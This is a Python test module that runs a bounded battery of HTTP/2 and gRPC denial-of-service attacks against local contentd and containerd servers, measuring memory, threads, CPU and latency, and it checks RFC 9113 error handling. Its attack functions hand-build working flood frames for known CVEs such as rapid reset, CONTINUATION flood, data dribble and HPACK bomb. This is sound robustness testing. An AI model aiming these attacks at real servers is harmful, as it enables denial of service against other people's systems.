"""A live battery of HTTP/2 and gRPC attacks, against contentd and containerd 1.6.20.

Each case runs against a fresh server: ``contentd serve`` on the native engine,
on the grpcio engine, or a private containerd 1.6.20. While the attacker works
(bounded: a few seconds and a few hundred MiB at most), a legitimate client
reads 32 KiB ranges of a blob; the server's RSS, threads and CPU are sampled.
``python -m tests.wire.attacks`` prints the whole table (the README's engine
section quotes it); ``tests/wire/test_attacks.py`` asserts what must hold.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import os
import socket
import statistics
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import grpc
import hpack

from contentd.api._pb.containerd.services.content.v1 import content_pb2 as pb
from contentd.api._pb.containerd.services.content.v1 import content_pb2_grpc as pb_grpc
from contentd.wire import frames as fr
from contentd.wire.metadata import hpack_literal
from tests.daemon.harness import QUIET_GC, ServeProcess
from tests.peers import ContainerdPeer
from tests.wire.helpers import message as _message
from tests.wire.helpers import request_headers

__all__ = ["CASES", "RFC_CASES", "TARGETS", "Result", "Target", "rfc_answers", "run_case"]

E = fr.ErrorCode
NAMESPACE = "attack"
METADATA = (("containerd-namespace", NAMESPACE),)
CONTENT = "/containerd.services.content.v1.Content/"
TARGETS = ("native", "grpcio", "containerd")
_CODES = {v: k for k, v in vars(E).items() if k.isupper()}
BLOB = bytes(range(256)) * 4096  # 1 MiB
DIGEST = "sha256:" + hashlib.sha256(BLOB).hexdigest()
#: how long an attack may run (seconds)
BUDGET = 1.5


class Target:
    """A fresh server of one kind: ``address`` (unix socket path) and ``pid``."""

    def __init__(self, kind: str) -> None:
        self.kind = kind
        self._proc: Any
        if kind == "containerd":
            self._proc = ContainerdPeer().start()
            self.address = self._proc.address
            self.pid: int = self._proc.pid
        else:
            engine = "contentd" if kind == "native" else "grpcio"
            config = QUIET_GC + f'\n[grpc]\nengine = "{engine}"\n'
            self._proc = ServeProcess(config=config, name=f"attack-{kind}").start()
            self.address = str(self._proc.socket)
            assert self._proc.proc is not None
            self.pid = self._proc.proc.pid
        self._write_blob()

    def _write_blob(self) -> None:
        with self.channel() as ch:
            stub = pb_grpc.ContentStub(ch)
            requests = [
                pb.WriteContentRequest(action=pb.WRITE, ref="attack-blob", data=BLOB),
                pb.WriteContentRequest(
                    action=pb.COMMIT,
                    ref="attack-blob",
                    offset=len(BLOB),
                    total=len(BLOB),
                    expected=DIGEST,
                    labels={"containerd.io/gc.root": "attack"},
                ),
            ]
            list(stub.Write(iter(requests), metadata=METADATA, timeout=30))

    def channel(self) -> grpc.Channel:
        return grpc.insecure_channel(f"unix:{self.address}")

    @property
    def alive(self) -> bool:
        try:
            os.kill(self.pid, 0)
        except ProcessLookupError:
            return False
        with open(f"/proc/{self.pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"

    def close(self) -> None:
        self._proc.close()


def _proc_status(pid: int) -> tuple[int, int]:
    """RSS (bytes) and threads of ``pid``."""
    rss = threads = 0
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                rss = int(line.split()[1]) << 10
            elif line.startswith("Threads:"):
                threads = int(line.split()[1])
    return rss, threads


def _cpu(pid: int) -> float:
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


class _Sampler:
    """Peak RSS and threads of a process, sampled every 20 ms while running."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.rss, self.threads = _proc_status(pid)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.wait(0.02):
            with contextlib.suppress(OSError, ValueError):
                rss, threads = _proc_status(self.pid)
                self.rss = max(self.rss, rss)
                self.threads = max(self.threads, threads)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(5)


class _Reader:
    """A legitimate client: 32 KiB Reads in a loop, each timed; failures counted."""

    def __init__(self, target: Target) -> None:
        self.latencies: list[float] = []
        self.failures: list[str] = []
        self._channel = target.channel()
        self._stub = pb_grpc.ContentStub(self._channel)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def read_once(self) -> float:
        start = time.perf_counter()
        request = pb.ReadContentRequest(digest=DIGEST, offset=1 << 15, size=1 << 15)
        data = b"".join(r.data for r in self._stub.Read(request, metadata=METADATA, timeout=10))
        assert data == BLOB[1 << 15 : 1 << 16]
        return time.perf_counter() - start

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                self.latencies.append(self.read_once())
            except Exception as err:  # recorded: the test asserts there are none
                self.failures.append(repr(err)[:200])
            self._stop.wait(0.01)

    def start(self) -> None:
        self._thread.start()

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(30)

    def close(self) -> None:
        self._channel.close()


def p99(samples: list[float]) -> float:
    if not samples:
        return float("nan")
    ordered = sorted(samples)
    return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]


# -- the attacker's side ----------------------------------------------------------


class Raw:
    """One HTTP/2 connection written by hand; reads only when asked."""

    def __init__(self, address: str, *, settings: dict[int, int] | None = None) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(5)
        self.sock.connect(address)
        self.encoder = hpack.Encoder()
        self.buf = b""
        self.closed = False
        self.sock.sendall(fr.PREFACE + fr.settings(settings or {}))

    def block(self, path: str, extra: list[tuple[str, str]] | None = None) -> bytes:
        fields = request_headers(path, [("containerd-namespace", NAMESPACE), *(extra or [])])
        return bytes(self.encoder.encode(fields))

    def send(self, data: bytes) -> bool:
        """Send ``data``; False once the server closed or stopped reading for 5 s."""
        if self.closed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    def drain(self) -> None:
        """Take what the server sent so far without waiting (kept for :meth:`answer`)."""
        self.sock.settimeout(0)
        try:
            with contextlib.suppress(OSError):  # BlockingIOError: nothing more now
                while chunk := self.sock.recv(1 << 16):
                    self.buf += chunk
        finally:
            self.sock.settimeout(5)

    def frames(self, wait: float = 0.5) -> list[fr.Frame]:
        """What the server sent, read until ``wait`` seconds pass without anything new."""
        self.sock.settimeout(wait)
        try:
            while True:
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    self.closed = True
                    break
                self.buf += chunk
        except (TimeoutError, OSError):
            pass
        frames, used = fr.parse_frames(self.buf)
        self.buf = self.buf[used:]
        return frames

    def answer(self, wait: float = 0.5) -> str:
        """How the server answered, in a few words: its GOAWAY or RST_STREAM code, a status,
        a close, or nothing."""
        seen: list[str] = []
        for f in self.frames(wait):
            if f.type == fr.GOAWAY:
                seen.append("GOAWAY " + _CODES.get(int.from_bytes(f.payload[4:8]), "?"))
            elif f.type == fr.RST_STREAM:
                seen.append("RST " + _CODES.get(int.from_bytes(f.payload), "?"))
        seen = list(dict.fromkeys(seen))
        if self.closed:
            seen.append("closed")
        return ", ".join(seen[-3:]) or "nothing"

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self.sock.close()


def _repeat(raw: Raw, batch: Callable[[int], bytes], budget: float = BUDGET) -> str:
    """Send ``batch(i)`` for i = 0, 1, ... until ``budget`` seconds pass or the server stops
    taking them; how it answered. The connection is closed after."""
    for i in _for(budget):
        if not raw.send(batch(i)):
            break
    answer = raw.answer()
    raw.close()
    return answer


def _for(budget: float = BUDGET) -> Iterator[int]:
    end = time.monotonic() + budget
    i = 0
    while time.monotonic() < end:
        yield i
        i += 1


def continuation_flood(address: str) -> str:
    """CVE-2024-27316 family: one header block that never ends."""
    raw = Raw(address)
    raw.send(fr.encode(fr.HEADERS, 0, 1, raw.block(CONTENT + "Info")))
    chunk = fr.encode(fr.CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3000) * 64
    return _repeat(raw, lambda i: chunk)


def unary_many_messages(address: str) -> str:
    """A unary call (Content/Info) sent message after message, never half-closed."""
    raw = Raw(address)
    raw.send(fr.headers(1, raw.block(CONTENT + "Info")))
    body = fr.data(1, _message(b"\x0a\x03abc" * 4000)) * 16
    return _repeat(raw, lambda i: body)


def header_blocks(address: str) -> str:
    """Eight connections sending many different 6 KiB header blocks that leave the HPACK
    table alone (the kind a server may cache per connection), for an unknown method; the
    answers are read as they come, so the server never waits for its socket."""
    conns = [Raw(address) for _ in range(8)]
    fixed = b"".join(
        hpack_literal(name, value)
        for name, value in (
            (b":method", b"POST"),
            (b":path", (CONTENT + "Nope").encode()),
            (b"content-type", b"application/grpc"),
        )
    )
    sids = [1] * 8
    for i in _for():
        n = i % 8
        block = fixed + hpack_literal(b"x-cache", os.urandom(3000).hex().encode())
        if not conns[n].send(fr.headers(sids[n], block, end_stream=True)):
            break
        conns[n].drain()
        sids[n] += 2
    answers = {raw.answer(0.2) for raw in conns}
    for raw in conns:
        raw.close()
    return " / ".join(sorted(answers))


def idle_write_streams(address: str) -> str:
    """5000 Write streams opened and left idle on one connection."""
    raw = Raw(address)
    block = raw.block(CONTENT + "Write")
    for i in range(5000):
        if not raw.send(fr.headers(1 + 2 * i, block)):
            break
    answer = raw.answer()
    time.sleep(BUDGET / 2)
    raw.close()
    return answer


def half_open_connections(address: str) -> str:
    """300 connections that never send their preface."""
    socks = []
    for _ in range(300):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        with contextlib.suppress(OSError):
            sock.connect(address)
        socks.append(sock)
    time.sleep(BUDGET / 2)
    for sock in socks:
        sock.close()
    return "held"


def empty_header_names(address: str) -> str:
    """CVE-2019-9516: requests carrying thousands of empty header names."""
    raw = Raw(address)
    block = raw.block(CONTENT + "Info") + b"\x00\x00\x00" * 3000
    end = _message(b"")
    return _repeat(raw, lambda i: fr.headers(1 + 2 * i, block) + fr.data(1 + 2 * i, end, True))


def rapid_reset(address: str) -> str:
    """CVE-2023-44487: streams opened and reset at once, as fast as possible."""
    raw = Raw(address)
    block = raw.block(CONTENT + "Read")
    request = _message(pb.ReadContentRequest(digest=DIGEST, size=1 << 20).SerializeToString())

    def batch(i: int) -> bytes:
        return b"".join(
            fr.headers(sid, block)
            + fr.data(sid, request, end_stream=True)
            + fr.rst_stream(sid, E.CANCEL)
            for sid in range(1 + 200 * i, 201 + 200 * i, 2)
        )

    return _repeat(raw, batch)


def _flood(frame: bytes) -> Callable[[str], str]:
    def flood(address: str) -> str:
        data = frame * 1000
        return _repeat(Raw(address), lambda i: data)

    return flood


def empty_frames(address: str) -> str:
    """CVE-2019-9518: empty DATA frames on an open stream."""
    raw = Raw(address)
    raw.send(fr.headers(1, raw.block(CONTENT + "Write")))
    data = fr.data(1, b"") * 1000
    return _repeat(raw, lambda i: data)


def reset_flood(address: str) -> str:
    """CVE-2019-9514: requests each answered with a reset (a malformed header), never read."""
    raw = Raw(address)
    block = raw.block(CONTENT + "Info") + b"\x00\x01X\x01v"

    def batch(i: int) -> bytes:
        first = 1 + 400 * i
        return b"".join(fr.headers(sid, block, True) for sid in range(first, first + 400, 2))

    return _repeat(raw, batch)


def data_dribble(address: str) -> str:
    """CVE-2019-9511: big Reads through a one-byte window, opened a byte at a time."""
    raw = Raw(address, settings={fr.Setting.INITIAL_WINDOW_SIZE: 1})
    block = raw.block(CONTENT + "Read")
    request = _message(pb.ReadContentRequest(digest=DIGEST).SerializeToString())
    for i in range(100):
        raw.send(fr.headers(1 + 2 * i, block) + fr.data(1 + 2 * i, request, end_stream=True))
    for _ in _for():
        updates = b"".join(fr.window_update(1 + 2 * i, 1) for i in range(100))
        if not raw.send(updates * 10 + fr.window_update(0, 1000)):
            break
        raw.frames(0)
    answer = raw.answer(0.2)
    raw.close()
    return answer


def unread_responses(address: str) -> str:
    """CVE-2019-9517: many whole-blob Reads on one connection whose client reads nothing."""
    raw = Raw(address, settings={fr.Setting.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
    raw.send(fr.window_update(0, (1 << 31) - 1 - 65535))
    block = raw.block(CONTENT + "Read")
    request = _message(pb.ReadContentRequest(digest=DIGEST).SerializeToString())
    for i in range(400):
        raw.send(fr.headers(1 + 2 * i, block) + fr.data(1 + 2 * i, request, end_stream=True))
    time.sleep(BUDGET)
    raw.close()
    return "unread"


def hpack_bomb(address: str) -> str:
    """A 4 KiB header indexed once, then referenced thousands of times per request."""
    raw = Raw(address)
    end = _message(b"")
    first = raw.block(CONTENT + "Info", [("x-bomb", "b" * 4000)])
    raw.send(fr.headers(1, first) + fr.data(1, end, end_stream=True))
    bomb = raw.block(CONTENT + "Info", [("x-bomb", "b" * 4000)] * 4000)
    return _repeat(
        raw, lambda i: fr.headers(3 + 2 * i, bomb) + fr.data(3 + 2 * i, end, True), BUDGET / 2
    )


def huge_length_prefix(address: str) -> str:
    """A Write message whose length prefix says 4 GiB."""
    raw = Raw(address)
    raw.send(fr.headers(1, raw.block(CONTENT + "Write")) + fr.data(1, b"\x00\xff\xff\xff\xff"))
    data = fr.data(1, b"\x00" * 16000) * 4
    return _repeat(raw, lambda i: data, BUDGET / 2)


CASES: dict[str, Callable[[str], str]] = {
    "continuation flood": continuation_flood,
    "unary call, endless messages": unary_many_messages,
    "distinct header blocks, 8 conns": header_blocks,
    "5000 idle Write streams": idle_write_streams,
    "300 half-open connections": half_open_connections,
    "empty header names": empty_header_names,
    "rapid reset": rapid_reset,
    "ping flood": _flood(fr.ping(b"12345678")),
    "settings flood": _flood(fr.settings({})),
    "empty frames": empty_frames,
    "reset flood": reset_flood,
    "data dribble": data_dribble,
    "unread responses": unread_responses,
    "HPACK bomb": hpack_bomb,
    "4 GiB length prefix": huge_length_prefix,
}


@dataclass
class Result:
    target: str
    case: str
    answer: str
    rss_growth: int
    threads: int
    cpu: float
    quiet_p99: float
    attack_p99: float
    reads: int
    failures: list[str] = field(default_factory=list)
    alive: bool = True
    after_ok: bool = True

    def row(self) -> str:
        return (
            f"| {self.case} | {self.target} | {self.answer} | {self.rss_growth / 2**20:+.0f} MB"
            f" | {self.threads} | {self.cpu:.1f} s | {self.quiet_p99 * 1e3:.1f} ms"
            f" | {self.attack_p99 * 1e3:.1f} ms | {len(self.failures)}/{self.reads} |"
        )


def run_case(kind: str, case: str) -> Result:
    """``case`` against a fresh server of ``kind``, a legitimate reader running alongside."""
    target = Target(kind)
    try:
        reader = _Reader(target)
        quiet = [reader.read_once() for _ in range(30)]
        rss0, _ = _proc_status(target.pid)
        cpu0 = _cpu(target.pid)
        sampler = _Sampler(target.pid)
        reader.start()
        try:
            answer = CASES[case](target.address)
        finally:
            time.sleep(0.2)
            reader.stop()
            sampler.stop()
        cpu = _cpu(target.pid) - cpu0 if target.alive else float("nan")
        alive = target.alive
        after_ok = True
        if alive:
            try:
                reader.read_once()
            except Exception:
                after_ok = False
        reader.close()
        return Result(
            target=kind,
            case=case,
            answer=answer,
            rss_growth=sampler.rss - rss0,
            threads=sampler.threads,
            cpu=cpu,
            quiet_p99=p99(quiet),
            attack_p99=p99(reader.latencies),
            reads=len(reader.latencies) + len(reader.failures),
            failures=reader.failures,
            alive=alive,
            after_ok=after_ok,
        )
    finally:
        target.close()


# -- RFC 9113 errors: what each server answers ------------------------------------


def _stream(raw: Raw) -> bytes:
    return fr.headers(1, raw.block(CONTENT + "Write"))


#: case -> (frames after opening stream 1 with a Write, the answer RFC 9113 prescribes)
RFC_CASES: dict[str, tuple[Callable[[Raw], bytes], str]] = {
    "WINDOW_UPDATE overflows the connection window": (
        lambda r: fr.window_update(0, (1 << 31) - 1) * 2,
        "GOAWAY FLOW_CONTROL_ERROR",
    ),
    "WINDOW_UPDATE of 0 on the connection": (
        lambda r: fr.window_update(0, 0),
        "GOAWAY PROTOCOL_ERROR",
    ),
    "WINDOW_UPDATE overflows a stream window": (
        lambda r: fr.window_update(1, (1 << 31) - 1) * 2,
        "RST FLOW_CONTROL_ERROR",
    ),
    "WINDOW_UPDATE of 0 on a stream": (lambda r: fr.window_update(1, 0), "RST PROTOCOL_ERROR"),
    "INITIAL_WINDOW_SIZE above 2^31-1": (
        lambda r: fr.settings({fr.Setting.INITIAL_WINDOW_SIZE: 1 << 31}),
        "GOAWAY FLOW_CONTROL_ERROR",
    ),
    "DATA on stream 0": (lambda r: fr.data(0, b"x"), "GOAWAY PROTOCOL_ERROR"),
    "HEADERS on stream 0": (
        lambda r: fr.headers(0, r.block(CONTENT + "Info")),
        "GOAWAY PROTOCOL_ERROR",
    ),
    "RST_STREAM on stream 0": (lambda r: fr.rst_stream(0, 8), "GOAWAY PROTOCOL_ERROR"),
    "PING on a stream": (lambda r: fr.encode(fr.PING, 0, 1, b"\x00" * 8), "GOAWAY PROTOCOL_ERROR"),
    "SETTINGS on a stream": (lambda r: fr.encode(fr.SETTINGS, 0, 1, b""), "GOAWAY PROTOCOL_ERROR"),
    "DATA on an idle stream": (lambda r: fr.data(9, b"x"), "GOAWAY PROTOCOL_ERROR"),
    "RST_STREAM on an idle stream": (lambda r: fr.rst_stream(9, 8), "GOAWAY PROTOCOL_ERROR"),
    "WINDOW_UPDATE on an idle stream": (lambda r: fr.window_update(9, 1), "GOAWAY PROTOCOL_ERROR"),
    "even stream id": (lambda r: fr.headers(2, r.block(CONTENT + "Info")), "GOAWAY PROTOCOL_ERROR"),
    "decreasing stream id": (
        lambda r: (
            fr.headers(7, r.block(CONTENT + "Write")) + fr.headers(5, r.block(CONTENT + "Write"))
        ),
        "GOAWAY PROTOCOL_ERROR",
    ),
    "padding longer than the frame": (
        lambda r: fr.encode(fr.DATA, fr.PADDED, 1, b"\x09abc"),
        "GOAWAY PROTOCOL_ERROR",
    ),
    "frame above SETTINGS_MAX_FRAME_SIZE": (
        lambda r: fr.encode(fr.DATA, 0, 1, b"\x00" * ((1 << 24) - 1)),
        "GOAWAY FRAME_SIZE_ERROR",
    ),
    "PING of 4 bytes": (lambda r: fr.encode(fr.PING, 0, 0, b"1234"), "GOAWAY FRAME_SIZE_ERROR"),
    "SETTINGS of 5 bytes": (
        lambda r: fr.encode(fr.SETTINGS, 0, 0, b"12345"),
        "GOAWAY FRAME_SIZE_ERROR",
    ),
    "RST_STREAM of 3 bytes": (
        lambda r: fr.encode(fr.RST_STREAM, 0, 1, b"123"),
        "GOAWAY FRAME_SIZE_ERROR",
    ),
    "CONTINUATION without HEADERS": (
        lambda r: fr.encode(fr.CONTINUATION, fr.END_HEADERS, 1, b""),
        "GOAWAY PROTOCOL_ERROR",
    ),
    "unknown frame type": (lambda r: fr.encode(0xAB, 0, 0, b"ignored"), "nothing"),
}


def rfc_answers(address: str) -> dict[str, str]:
    """Each RFC case on a fresh connection: what the server answered."""
    answers = {}
    for case, (frames, _) in RFC_CASES.items():
        raw = Raw(address)
        raw.send(_stream(raw))
        raw.frames(0.1)
        raw.send(frames(raw))
        answers[case] = raw.answer(0.5)
        raw.close()
    return answers


def content_type_answers(address: str) -> dict[str, str]:
    """The ``:status`` and ``grpc-status`` a request with a wrong or missing content-type gets."""
    answers = {}
    for label, ctype in (("text/plain", "text/plain"), ("missing", None)):
        raw = Raw(address)
        headers = [(":method", "POST"), (":scheme", "http"), (":path", CONTENT + "Info")]
        headers += [(":authority", "x"), ("containerd-namespace", NAMESPACE)]
        if ctype is not None:
            headers.append(("content-type", ctype))
        block = bytes(raw.encoder.encode(headers))
        raw.send(fr.headers(1, block) + fr.data(1, _message(b""), end_stream=True))
        decoder = hpack.Decoder()
        got = "nothing"
        for f in raw.frames(0.5):
            if f.type == fr.HEADERS and f.stream_id == 1:
                fields = dict(decoder.decode(f.payload))
                got = f":status {fields.get(':status')} grpc-status {fields.get('grpc-status')}"
                break
        answers[label] = got
        raw.close()
    return answers


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--targets", default=",".join(TARGETS))
    parser.add_argument("--cases", default="")
    args = parser.parse_args()
    targets = args.targets.split(",")
    cases = [c for c in CASES if not args.cases or c in args.cases.split(",")]
    print(f"load {os.getloadavg()[0]:.2f}")
    print(
        "| case | server | attacker got | RSS | threads | CPU | p99 quiet | p99 attack | failed |"
    )
    print("|---|---|---|---|---|---|---|---|---|")
    for case in cases:
        for kind in targets:
            print(run_case(kind, case).row(), flush=True)
    for kind in targets:
        target = Target(kind)
        try:
            answers = rfc_answers(target.address)
            right = sum(answers[c].startswith(want) for c, (_, want) in RFC_CASES.items())
            print(f"\n{kind}: RFC 9113 answer as prescribed in {right} of {len(RFC_CASES)}")
            for case, answer in answers.items():
                print(f"  {case}: {answer} (want {RFC_CASES[case][1]})")
            print(f"  content-type: {content_type_answers(target.address)}")
        finally:
            target.close()
    print(f"median quiet p99 is per case; load now {statistics.mean(os.getloadavg()):.2f}")


if __name__ == "__main__":
    main()
